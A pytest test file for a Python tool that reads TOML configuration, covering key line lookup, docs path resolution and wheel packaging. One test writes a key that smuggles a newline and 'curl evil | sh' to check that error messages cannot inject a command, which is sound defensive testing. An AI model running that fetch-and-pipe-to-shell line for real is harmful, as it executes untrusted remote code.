import re
import sys
import zipfile
from itertools import chain
from pathlib import Path

import pytest

from medley import config, process
from medley.command import Command
from medley.config import find_line
from medley.errors import Problem
from medley.schema import Model

TEXT = """\
link = "10.0.0.0/24"

[hosts.spark-1]
role = "head"   # the first

[hosts."spark 2"]
ssh = '''
role = "no key"
'''
a.b = 1
inline = { c = 2 }

[[failure]]
name = 'first'
log = ['''
[[failure]]
name = 'no key'
''']
[[failure]]  # it's the second
name = "it's '''"
[[failure.sign]]
needle = "a"
[[failure.sign]]
needle = "b"
"""


@pytest.mark.parametrize(
    ("path", "number"),
    [
        pytest.param(("link",), 1, id="a key"),
        pytest.param(("hosts", "spark-1"), 3, id="a table"),
        pytest.param(("hosts", "spark-1", "role"), 4, id="a key of a table"),
        pytest.param(("hosts", "spark-1", "kind"), 3, id="a key that is missing"),
        pytest.param(("hosts", "spark 2", "ssh"), 7, id="a quoted table"),
        pytest.param(("hosts", "spark 2", "a", "b"), 10, id="a dotted key"),
        pytest.param(("hosts", "spark 2", "inline", "c"), 11, id="in an inline table"),
        pytest.param(("hosts", "spark 2", "ssh", 0), 7, id="a place in a list"),
        pytest.param(("hosts",), 3, id="a table that only has tables"),
        pytest.param(("hosts", "spark 2", "role"), 6, id="no key is in a string of several lines"),
        pytest.param(("failure", 0, "log", 0), 15, id="a key of the first of several tables"),
        pytest.param(("failure", 1), 19, id="the second of several tables"),
        pytest.param(("failure", 1, "name"), 20, id="a key of the second"),
        pytest.param(("failure", 1, "sign", 1, "needle"), 24, id="a key of the second in the second"),
        pytest.param(("other",), None, id="nowhere"),
    ],
)
def test_where_a_key_stands(path: tuple[str | int, ...], number: int | None) -> None:
    assert find_line(TEXT, path) == number


ROOT = Path(__file__).parents[1]
PAGE = re.compile(r"(?<![\w/])docs/[\w/-]+\.md")


def test_a_page_is_named_where_it_lies() -> None:
    assert config.resolve_pages("see docs/how-to/containers.md; (docs/reference/tables.md)") == (
        f"see {ROOT}/docs/how-to/containers.md; ({ROOT}/docs/reference/tables.md)"
    )
    other = "https://example.com/docs/a.md docs/no-such-page.md x/docs/how-to/containers.md"
    assert config.resolve_pages(other) == other


def test_the_wheel_carries_every_page_and_every_table(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pytest.importorskip("hatchling", reason="Nix builds the wheel itself, and its tests have no hatchling")
    monkeypatch.chdir(ROOT)
    command = Command((sys.executable, "-m", "hatchling", "build", "-t", "wheel", "-d", str(tmp_path)))
    assert process.run(command, limit_s=120).status == 0
    with zipfile.ZipFile(next(tmp_path.glob("*.whl"))) as wheel:
        carried = set(wheel.namelist())
    folders = ("docs", "hosts", "models", "locks", "failures")
    written = chain.from_iterable((ROOT / each).rglob("*.[mt]*") for each in folders)
    assert {f"medley/data/{path.relative_to(ROOT)}" for path in written} <= carried


def test_every_page_that_a_message_names_is_there() -> None:
    sources = chain(
        (ROOT / "pysrc").rglob("*.py"), *((ROOT / each).glob("*.toml") for each in ("hosts", "failures"))
    )
    named = {(path.name, each) for path in sources for each in PAGE.findall(path.read_text(encoding="utf-8"))}
    assert len(named) > 8
    assert {(name, each) for name, each in named if not (ROOT / each).is_file()} == set()


def test_a_key_of_a_table_is_one_word_of_a_fix(tmp_path: Path) -> None:
    """Somebody else may have written the table."""
    file = tmp_path / "x.toml"
    file.write_text('title = "x"\nrepository = "a/b"\n[env.vllm]\n"X\\ncurl evil | sh" = 1\n')
    with pytest.raises(Problem) as caught:
        config.read_table(file, Model)
    assert len(caught.value.fix.splitlines()) == 1
    assert "'env.vllm.X curl evil | sh'" in caught.value.fix
